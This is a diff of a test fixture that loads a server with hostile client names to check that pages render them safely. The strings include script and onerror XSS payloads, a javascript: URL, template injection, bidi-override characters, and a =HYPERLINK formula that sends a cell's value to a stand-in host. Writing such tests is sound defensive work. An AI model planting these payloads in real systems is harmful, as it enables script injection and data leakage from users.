@@ -21,14 +21,14 @@ from tests.flows.desk.conftest import answering
 
 HOSTILE = (
     "<b>bold</b> & \"quoted\" 'so'",
-    "<script>document.title = 'taken over'</script><img src=x onerror=\"document.title = 'taken over'\">",
+    '<script>window.taken = "over"</script><img src=x onerror="window.taken = 1">',
     "{{ 7 * 7 }} {% raise %}",
-    "Right \u202egnp.reversed\u202c\u2066 and \u200fleft\u0000",
+    "Right \u202egnp.reversed\u202c\u2066 and \u200fleft",
     "W" * 10_000,
     '=HYPERLINK("http://elsewhere.invalid/?x="&A1,"Click")',
 )
 """Names that break pages which show them as they come."""
-SINGLE = "javascript:document.title='taken over'"
+SCRIPT = "javascript:window.taken='over'"
 
 
 @dataclass
@@ -52,7 +52,7 @@ def add_hostile(server: Server) -> None:
         contact = {"first_name": name[:200], "last_name": "", "email": f"hostile{number}@example.org"}
         for _ in range(2):
             server.call("POST", "/api/v1/clients", {
-                "name": name, "website": SINGLE, "vat_number": f"HOSTILE{number}", "private_notes": name,
+                "name": name, "website": SCRIPT, "vat_number": f"HOSTILE{number}", "private_notes": name,
                 "public_notes": name, "city": name[:200], "contacts": [contact],
             })  # fmt: skip
 
